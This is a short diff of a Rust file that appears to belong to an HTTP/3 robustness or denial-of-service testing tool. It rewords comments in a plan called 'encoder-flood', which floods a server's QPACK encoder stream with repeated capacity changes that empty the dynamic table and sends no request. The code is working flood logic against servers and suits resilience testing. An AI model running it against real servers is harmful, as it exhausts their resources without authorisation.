@@ -1,4 +1,4 @@
-//! Instructions on the QPACK encoder stream that change nothing.
+//! QPACK encoder instructions without effect.
 
 use crate::attack::{Plan, Victim};
 use crate::http;
@@ -9,7 +9,7 @@ use super::{Crowd, crowd};
 pub(super) const PLAN: Plan = Plan {
     name: "encoder-flood",
     labels: &["A77"],
-    summary: "duplicates and new capacities on the QPACK encoder stream, and no request",
+    summary: "capacity changes on the QPACK encoder stream without any request",
     victim: Victim::Server,
     make: || Box::new(encoder_flood()),
 };
@@ -17,7 +17,7 @@ pub(super) const PLAN: Plan = Plan {
 fn encoder_flood() -> Crowd {
     Crowd::new(2, |connection, progress, _| {
         let id = http::uni_stream(http::ENCODER);
-        // Capacities 0 and 1 in turn: each empties the table.
+        // Capacities 0 and 1 alternate. Each empties the dynamic table.
         let bytes = [0x20, 0x21].repeat(500);
         for _ in 0..BURST {
             connection.push_bytes(http::stream(id, progress.encoder, &bytes, false));
